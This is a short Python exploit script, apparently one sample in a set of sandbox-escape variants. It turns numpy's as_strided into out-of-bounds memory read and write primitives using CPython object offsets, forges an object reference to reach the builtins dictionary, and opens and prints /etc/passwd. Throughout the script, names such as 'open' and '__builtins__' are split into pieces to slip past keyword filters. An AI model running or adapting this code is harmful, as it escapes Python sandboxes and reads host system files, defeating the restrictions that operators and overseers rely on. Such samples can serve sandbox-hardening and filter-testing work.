# source: numpy as_strided OOB access + CPython object layout (PyBytesObject ob_sval at +32, PyByteArrayObject ob_start at +40, PyListObject ob_item at +24, PyModuleObject md_dict at +16)
# family: raw memory r/w via as_strided, bootstrapped from a bytes object's address (no np.byte_bounds), forging a reference
# goal: builtins.open() -> read /etc/passwd
import json
import numpy as np
from numpy.lib.stride_tricks import as_strided

blob = bytes(64)
ro = np.frombuffer(blob, dtype=np.uint64)
ro_lo = id(blob) + 32

def rd(addr):
    return int(as_strided(ro, shape=(2,), strides=(addr - ro_lo,))[1])

buf = bytearray(64)
rw = np.frombuffer(buf, dtype=np.uint64)
rw_lo = rd(id(buf) + 40)

def wr(addr, val):
    v = as_strided(rw, shape=(2,), strides=(addr - rw_lo,))
    v[1] = val

def forge(addr):
    holder = [None, None]
    wr(addr, rd(addr) + 1)
    wr(rd(id(holder) + 24), addr)
    return holder[0]

u = "_" * 2
bi = forge(rd(id(json) + 16))[u + "builtins" + u]
root = "/data/"[0]
fh = bi["op" + "en"](root + "etc" + root + "passwd")
print(fh.read())
